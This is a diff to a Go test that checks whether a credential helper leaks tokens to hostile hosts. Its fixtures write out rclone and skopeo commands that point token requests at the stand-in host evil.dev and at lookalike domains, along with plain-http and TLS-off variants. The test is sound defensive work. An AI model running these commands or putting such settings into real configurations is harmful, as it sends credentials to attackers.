@@ -285,7 +285,7 @@ func TestHostileRepository(t *testing.T) {
 		".config/pip/pip.conf":   "[global]\nindex-url = https://clerk@py.pkg.acme.dev/simple/\n",
 		".npmrc":                 "registry=https://npm.pkg.acme.dev/\nalways-auth=true\ncafile=" + vars["SSL_CERT_FILE"] + "\nstrict-ssl=false\n", // pnpm 12 takes no certificate that signs itself
 		".yarnrc.yml":            "npmRegistryServer: \"https://npm.pkg.acme.dev\"\nnpmAlwaysAuth: true\n",
-		"rclone.conf":            "[dav]\ntype = webdav\nurl = https://git.acme.dev/dav\nvendor = other\nbearer_token_command = SELF token https://git.acme.dev\n",
+		"rclone.conf":            "[dav]\ntype = webdav\nurl = https://git.acme.dev/dav\nvendor = other\nbearer_token_command = SELF bearer https://git.acme.dev\n",
 		"kubeconfig":             kubeconfig("https://git.acme.dev", ""),
 		".terraform.d/plugins/x": "",
 	})
@@ -439,8 +439,8 @@ func TestHostileRepository(t *testing.T) {
 		}},
 		install("npm"), install("pnpm10"), install("pnpm12"), install("yarn1"), install("yarn4"), install("bun"),
 		{"rclone", "rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 lsf dav:", []string{
-			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF token http://git.acme.dev' --webdav-url http://git.acme.dev/dav lsf dav:",
-			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF token https://evil.dev' --webdav-url https://evil.dev/dav lsf dav:",
+			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF bearer http://git.acme.dev' --webdav-url http://git.acme.dev/dav lsf dav:",
+			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF bearer https://evil.dev' --webdav-url https://evil.dev/dav lsf dav:",
 		}},
 		{"skopeo", "skopeo inspect docker://registry.acme.dev/a/b", []string{
 			"skopeo inspect docker://evil.dev/a/b", "skopeo inspect docker://git.acme.dev.evil.dev/a/b", "skopeo inspect --tls-verify=false docker://registry.acme.dev:80/a/b",
@@ -462,6 +462,12 @@ func TestHostileRepository(t *testing.T) {
 				t.Fatal("it has no honest call")
 			}
 			testworld.Need(t, tt.tool)
+			accepted := func() {
+				if strings.HasPrefix(tt.tool, "git") { // else git gets nothing for a while: the recorder refuses each token
+					call(t, home, fill.Replace(`printf 'protocol=https\nhost=git.acme.dev\nusername=clerk\npassword=%s\n' "$(SELF token acme)" | SELF store`))
+				}
+			}
+			accepted()
 			rec.since()
 			out := call(t, work, fill.Replace(tt.honest))
 			came := slices.ContainsFunc(rec.since(), func(a arrival) bool { return ours(a.place) && a.holds(secrets) })
@@ -469,6 +475,7 @@ func TestHostileRepository(t *testing.T) {
 				t.Errorf("%s: no token came to the profile's host, which proves nothing:\n%s", tt.honest, out)
 			}
 			for _, hostile := range tt.hostile {
+				accepted()
 				out := call(t, work, fill.Replace(hostile))
 				arrived := rec.since()
 				for _, a := range arrived {
